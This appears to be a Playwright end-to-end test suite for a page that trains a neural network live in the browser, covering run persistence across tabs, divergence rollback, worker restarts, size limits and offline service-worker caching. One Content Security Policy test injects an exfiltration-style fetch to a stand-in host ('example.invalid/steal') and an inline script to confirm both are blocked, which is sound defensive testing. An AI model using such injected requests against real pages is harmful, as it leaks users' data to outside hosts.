"""End-to-end: nothing lost. A tab's run survives a reload (and a duplicated tab gets a copy of its
own), and a divergence pauses the run, says why in numbers, and rolls back to the last good weights."""
import html
import json
import re

import pytest

from pagekit import BOOT_S, Watched, saved_examples, tab_id, wait_until

pytest.importorskip('playwright.sync_api', reason='install the test extra: pip install -e .[test]')


@pytest.fixture
def opened(browser, base):
    watched = []

    def go(query='', tab_of=None, before=None, state='training'):
        """A page at base + query, waited for until `state`; tab_of: another tab of that page's
        browser profile; before: a script to run in the page before its own (add_init_script)."""
        w = Watched(browser, base, context=tab_of.context if tab_of else None)
        watched.append(w)
        if before:
            w.page.add_init_script(before)
        w.page.goto(base + query)
        w.wait_state(state, BOOT_S)
        return w
    yield go
    for w in watched:
        assert w.errors == [] and w.foreign == [], (w.errors, w.foreign)
    for w in reversed(watched):
        w.close()


def download(w, path):
    with w.page.expect_download() as info:
        w.page.click('[data-control="save"]')
    info.value.save_as(path)
    return json.loads(path.read_text())


def run_note(w):
    """What the page says of where its run came from (the embed strip's note, or the page's notice)."""
    return w.page.evaluate("(document.querySelector('[data-role=run-note]') || document.getElementById('notice')).textContent")


def saved_runs(w):
    return w.page.evaluate("[...document.querySelectorAll('[data-role=saved-runs] li[data-key]')].map((li) => [li.dataset.key, li.textContent])")


def test_a_reload_continues_the_run_exactly(opened, tmp_path):
    w = opened()
    wait_until(lambda: (w.number('examples') or 0) > 1500, 60, 'some training')
    w.page.click('#pause')
    w.wait_state('paused', 10)
    before = download(w, tmp_path / 'before.json')
    wait_until(lambda: saved_examples(w, f'tab {tab_id(w)}') == before['trainer']['examples'], 10, 'the paused run saved')
    w.page.reload()
    w.wait_state('paused', BOOT_S)                     # it was paused, and comes back paused
    assert 'continued the run saved at' in run_note(w)
    wait_until(lambda: w.number('examples') == before['trainer']['examples'], 10, 'the examples counter')
    after = download(w, tmp_path / 'after.json')
    assert after['trainer'] == before['trainer'] and after['params'] == before['params']   # weights, buffers, counters
    assert after['extra']['session'] == before['extra']['session']                  # random states, windows, charts
    w.page.click('#pause')                             # resume: it trains on from there
    wait_until(lambda: (w.number('examples') or 0) > before['trainer']['examples'], 20, 'training to go on')
    # The saved runs list names this tab's run, and Start fresh forgets it.
    w.page.wait_for_function("document.querySelector('[data-role=saved-runs] li[data-key]')")
    assert any(text.startswith('this tab') for _, text in saved_runs(w))
    w.page.click('[data-control="start-fresh"]')
    wait_until(lambda: (w.number('examples') or 1e9) < before['trainer']['examples'], 20, 'a fresh run')


def test_two_tabs_keep_their_own_runs_and_a_duplicate_gets_a_copy(opened):
    a = opened()
    wait_until(lambda: (a.number('examples') or 0) > 600, 60, 'tab A training')
    b = opened(tab_of=a)                               # a new tab: its own run, from scratch
    assert 'continued' not in run_note(b)
    assert tab_id(a) and tab_id(a) != tab_id(b)
    b.close()
    a.page.click('#pause')
    a.wait_state('paused', 10)
    wait_until(lambda: saved_examples(a, f'tab {tab_id(a)}') == a.number('examples'), 10, "A's paused run saved")
    # A duplicated tab starts with a copy of A's sessionStorage: it continues from A's run, under an id of its own.
    c = opened(tab_of=a, before=f"if (!sessionStorage.getItem('dup')) {{ sessionStorage.setItem('dup', 1); "
                                f"sessionStorage.setItem('live-cnn-tab', {json.dumps(tab_id(a))}); }}", state='paused')
    assert 'continued the run saved at' in run_note(c)
    assert tab_id(c) != tab_id(a) and c.number('examples') == a.number('examples')
    c.page.click('#pause')                             # C trains on; A stays paused and keeps its own record
    wait_until(lambda: (saved_examples(c, f'tab {tab_id(c)}') or 0) > a.number('examples'), 30, "C's own saved run")
    assert saved_examples(a, f'tab {tab_id(a)}') == a.number('examples')
    a.page.reload()
    a.wait_state('paused', BOOT_S)
    assert a.number('examples') == saved_examples(a, f'tab {tab_id(a)}')
    keys = [k for k, _ in saved_runs(a)]
    assert f'tab {tab_id(a)}' in keys and f'tab {tab_id(c)}' in keys


def test_divergence_pauses_explains_and_rolls_back(opened):
    w = opened('?trainer=convnetjs&method=sgd&learning_rate=0.01&momentum=0.9')     # batches of 20, a constant rate
    wait_until(lambda: (w.number('examples') or 0) > 5600, 90, 'a first checkpoint (5,000 examples)')
    w.page.fill('[data-control="learning_rate"]', '50')
    w.page.dispatch_event('[data-control="learning_rate"]', 'change')
    w.wait_state('paused', 30)
    box = w.page.locator('#diverged')
    box.wait_for(state='visible', timeout=5000)
    text = box.text_content()
    assert 'at learning rate 50 (sgd)' in text and ('the loss rose from' in text or 'not a number' in text or 'guessing' in text), text
    diverged_at = int(box.get_attribute('data-examples'))
    # (the chart draws its marks on the next animation frame)
    wait_until(lambda: [diverged_at, 'diverged'] in json.loads(w.page.get_attribute('[data-chart="loss"]', 'data-marks')), 5,
               "the loss chart's mark of the divergence")
    w.page.fill('[data-control="learning_rate"]', '0.01')
    w.page.dispatch_event('[data-control="learning_rate"]', 'change')
    w.page.click('[data-control="rollback"]')
    wait_until(lambda: 'Rolled back to 5,000 examples' in (w.page.text_content('#notice') or ''), 10, 'the rollback')
    assert box.is_hidden()
    w.wait_state('training', 10)
    wait_until(lambda: (w.number('examples') or 0) > 7000, 60, 'training on after the rollback')
    assert box.is_hidden() and (w.number('loss') or 9) < 1.0, w.stat('loss')


def test_a_killed_worker_is_noticed_and_the_run_restarts_from_its_autosave(opened):
    w = opened()
    wait_until(lambda: (saved_examples(w, f'tab {tab_id(w)}') or 0) > 500, 60, 'a first autosave')
    w.page.evaluate('window.liveCnnWorker.worker.terminate()')        # as the browser does to a worker out of memory
    saved = saved_examples(w, f'tab {tab_id(w)}')
    w.wait_state('error', 40)
    assert 'stopped answering' in w.page.text_content('#error-message')
    restart = w.page.locator('#error-restart')
    restart.wait_for(state='visible', timeout=5000)
    assert f'({saved:,} examples)' in restart.text_content()
    w.page.click('[data-control="restart"]')
    w.wait_state('training', BOOT_S)
    assert 'continued the run saved at' in run_note(w) and f'({saved:,} examples)' in run_note(w)
    wait_until(lambda: (w.number('examples') or 0) > saved, 20, 'training on from the autosave')


def test_the_content_security_policy_lets_it_train_and_blocks_other_origins(opened, base):
    import urllib.request
    from buildkit.server import CSP
    w = opened()                                        # the suite's server sends the policy: it trains under it
    with urllib.request.urlopen(base) as r:
        assert r.headers['Content-Security-Policy'] == CSP
        page = r.read().decode()
    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    assert meta and html.unescape(meta.group(1)) == CSP
    assert "'unsafe-eval'" not in CSP and "'unsafe-inline'" not in CSP and 'wasm-unsafe-eval' in CSP
    # An injected request to another origin, and an injected inline script, are refused.
    blocked = w.page.evaluate('''async () => {
        const seen = [];
        document.addEventListener('securitypolicyviolation', (e) => seen.push([e.violatedDirective, e.blockedURI]));
        let fetched = 'sent';
        try { await fetch('http://example.invalid/steal?x=1'); } catch (err) { fetched = 'refused'; }
        const s = document.createElement('script'); s.textContent = 'window.injected = 1'; document.body.append(s);
        const img = new Image(); img.src = 'http://example.invalid/pixel.png'; document.body.append(img);
        await new Promise((r) => setTimeout(r, 500));
        return { fetched, injected: window.injected === 1, seen };
    }''')
    assert blocked['fetched'] == 'refused' and not blocked['injected'], blocked
    directives = {d for d, _ in blocked['seen']}
    assert {'connect-src', 'script-src-elem', 'img-src'} <= directives, blocked
    w.errors[:] = [e for e in w.errors if 'Content Security Policy' not in e and 'Failed to fetch' not in e]
    w.foreign[:] = [u for u in w.foreign if 'example.invalid' not in u]     # refused before they left
    wait_until(lambda: (w.number('examples') or 0) > 200, 30, 'training all the while')


# The heaviest network the page accepts by work per example (config.MAX_WORK: 89 of 100 million
# multiply-adds) and nearly by parameters (246,730 of 250,000): ~2.5 s per batch of 20, so every
# batch is trained in parts.
HEAVIEST = [{'type': 'input', 'out_sx': 24, 'out_sy': 24, 'out_depth': 1},
            {'type': 'conv', 'sx': 5, 'filters': 32, 'pad': 2, 'activation': 'relu'},
            {'type': 'conv', 'sx': 5, 'filters': 64, 'pad': 2, 'activation': 'relu'},
            {'type': 'conv', 'sx': 5, 'filters': 64, 'pad': 2, 'activation': 'relu'},
            {'type': 'pool', 'sx': 2}, {'type': 'softmax', 'num_classes': 10}]

PAUSE = """() => new Promise((done) => {      // ms from the click until the run says it has stopped
  const t0 = performance.now();
  document.querySelector('#pause').click();
  const look = () => document.documentElement.dataset.state === 'paused' ? done(performance.now() - t0) : requestAnimationFrame(look);
  look();
})"""


def test_the_largest_accepted_network_pauses_within_a_second_and_states_its_memory(opened):
    from urllib.parse import quote
    w = opened('?trainer=convnetjs&spec=' + quote(json.dumps(HEAVIEST)))      # batches of 20
    memory = w.page.text_content('[data-role="memory"]')
    assert re.fullmatch(r'training needs about 1\d\d\.\d MB per batch of 20', memory), memory
    assert 'activations' in w.page.get_attribute('[data-role="memory"]', 'title')
    wait_until(lambda: (w.number('examples') or 0) >= 20, 60, 'a first batch of the heaviest net')
    latencies = []
    for _ in range(5):                 # over more than one autosave (every 5 s)
        w.page.wait_for_timeout(1300)
        latencies.append(w.page.evaluate(PAUSE))
        w.page.click('#pause')
        w.wait_state('training', 10)
    assert max(latencies) < 1000, latencies
    # a step while paused trains one whole batch, in as many parts as it takes
    w.page.evaluate(PAUSE)
    before = w.number('examples')
    w.page.click('#controls [data-control="step"]')
    wait_until(lambda: w.number('examples') == before + 20, 30, 'one batch of 20')
    w.page.wait_for_timeout(3000)
    assert w.number('examples') == before + 20 and w.state() == 'paused'
    w.page.click('#pause')
    w.wait_state('training', 10)
    # the batch size is part of the estimate, and one too large for the memory limit is refused
    w.page.fill('[data-control="batch_size"]', '100')
    w.page.dispatch_event('[data-control="batch_size"]', 'change')
    wait_until(lambda: 'per batch of 100' in w.page.text_content('[data-role="memory"]'), 10, 'the new estimate')
    w.page.fill('[data-control="batch_size"]', '1000')
    w.page.dispatch_event('[data-control="batch_size"]', 'change')
    wait_until(lambda: "more than this page's limit of 1,000 MB" in w.page.text_content('[data-message="options"]'), 10,
               'the refusal')
    assert 'per batch of 100' in w.page.text_content('[data-role="memory"]')


def test_a_network_above_the_limits_is_refused_with_its_estimate(opened):
    w = opened()
    w.page.click('text=Edit the network')
    too_big = HEAVIEST[:4] + [{'type': 'conv', 'sx': 5, 'filters': 128, 'pad': 2}] + HEAVIEST[4:]
    w.page.fill('[data-control="spec"]', json.dumps(too_big))
    w.page.click('[data-control="change-network"]')
    wait_until(lambda: re.search(r'has [\d,]+ parameters, more than the 250,000 this page trains',
                                 w.page.text_content('[data-message="spec"]')), 10, 'the refusal')
    assert w.page.text_content('[data-role="param-count"]').startswith('5,994 parameters')


CACHED = """async () => {             // the offline copy: {cache name: entries}
  await navigator.serviceWorker.ready;
  const out = {};
  for (const name of await caches.keys()) out[name] = (await (await caches.open(name)).keys()).length;
  return out;
}"""

LATEST = """async () => {             // the build the offline copy answers with
  const hit = await caches.match(new URL('latest-build', location.href).href, { cacheName: 'live-cnn-latest' });
  return hit && hit.text();
}"""

WORKERS = """async () => {            // the service workers of this page's scope, for a failure message
  const r = await navigator.serviceWorker.getRegistration();
  const url = (w) => w && `${w.scriptURL.split('?')[1]} ${w.state}`;
  return r ? {installing: url(r.installing), waiting: url(r.waiting), active: url(r.active)} : null;
}"""


def test_the_service_worker_answers_without_creating_a_cache(opened):
    # An older build's worker may still answer a request after a newer one deleted its cache: it
    # must not make that cache again, empty, beside the new one.
    w = opened()
    wait_until(lambda: 'opens with no network' in w.page.text_content('footer'), 60, 'the offline copy')
    left = w.page.evaluate("""async () => {
      for (const name of await caches.keys()) await caches.delete(name);
      const files = (await (await fetch('manifest.json')).json()).files.map((f) => f.path);
      const paths = [files.find((p) => p.startsWith('data/mnist/')), files.find((p) => p.startsWith('data/fashion-mnist/'))];
      for (const path of paths) if (path) await (await fetch(path)).arrayBuffer();   // the second one kept on use
      return [navigator.serviceWorker.controller !== null, await caches.keys()];
    }""")
    assert left == [True, []], left


def visited_copy(browser, site, tmp_path):
    """A copy of the site on a server of its own, visited once (its offline copy made).
    -> (folder, server, base URL, the watched page)."""
    import shutil
    from pagekit import start_server
    copy = tmp_path / 'dist'
    shutil.copytree(site, copy)
    server, base = start_server(copy)
    w = Watched(browser, base)
    w.page.goto(base + 'index.html?preset=mlp')
    w.wait_state('training', BOOT_S)
    wait_until(lambda: 'opens with no network' in w.page.text_content('footer'), 60, 'the offline copy')
    return copy, server, base, w


def test_offline_the_worker_answers_from_the_latest_complete_build(browser, site, tmp_path):
    # The worker that answers may be an older build's (Chromium lets one linger): offline, it must
    # answer with the latest complete build's copy, not its own (which that build deleted).
    copy, server, base, w = visited_copy(browser, site, tmp_path)
    try:
        w.page.evaluate("""async () => {
          const other = await caches.open('live-cnn-build-other');
          await other.put(new URL('index.html', location.href).href,
                          new Response('<title>other</title><p>the other build</p>', { headers: { 'Content-Type': 'text/html' } }));
          await (await caches.open('live-cnn-latest')).put(new URL('latest-build', location.href).href, new Response('other'));
        }""")
    finally:
        server.shutdown()
        server.server_close()
    w.page.goto(base + 'index.html?preset=mlp')
    assert w.page.text_content('p') == 'the other build'
    w.close()


def test_after_one_visit_the_page_opens_and_trains_with_the_server_stopped(browser, site, tmp_path):
    copy, server, base, w = visited_copy(browser, site, tmp_path)
    manifest = json.loads((copy / 'manifest.json').read_text())
    try:
        version = manifest['version']
        offline = [f for f in manifest['files'] if not f['path'].startswith('data/fashion-mnist/') and f['path'] != 'sw.js']
        assert w.page.evaluate(CACHED) == {f'live-cnn-build-{version}': len(offline), 'live-cnn-latest': 1}
        assert w.page.evaluate(LATEST) == version
        # A new build is kept on the next visit online, and the old build's copy is removed, whether
        # or not the new build's worker has taken over yet (Chromium may keep the old one for minutes).
        index = (copy / 'index.html').read_text()
        rebuilt = version[::-1]
        (copy / 'index.html').write_text(index.replace(f'?v={version}', f'?v={rebuilt}').replace(
            f'Build {version}', f'Build {rebuilt}'))
        (copy / 'manifest.json').write_text(json.dumps({**manifest, 'version': rebuilt}))
        w.page.reload()
        w.wait_state('training', BOOT_S)
        assert f'Build {rebuilt}' in w.page.text_content('footer')
        wait_until(lambda: f'this build ({rebuilt}) now also opens' in w.page.text_content('footer'), 60, 'the new copy')
        assert w.page.evaluate(CACHED) == {f'live-cnn-build-{rebuilt}': len(offline), 'live-cnn-latest': 1}, \
            (w.page.evaluate(CACHED), w.page.evaluate(WORKERS))
        assert w.page.evaluate(LATEST) == rebuilt
    finally:
        server.shutdown()
        server.server_close()
    before = w.number('examples')
    w.page.reload()                                   # no server: everything from the offline copy
    w.wait_state('training', BOOT_S)
    assert f'Build {rebuilt}' in w.page.text_content('footer')
    assert 'continued the run' in w.page.text_content('body')
    wait_until(lambda: (w.number('examples') or 0) > before + 1000, 60, 'training offline')
    assert w.errors == [], w.errors
    w.close()
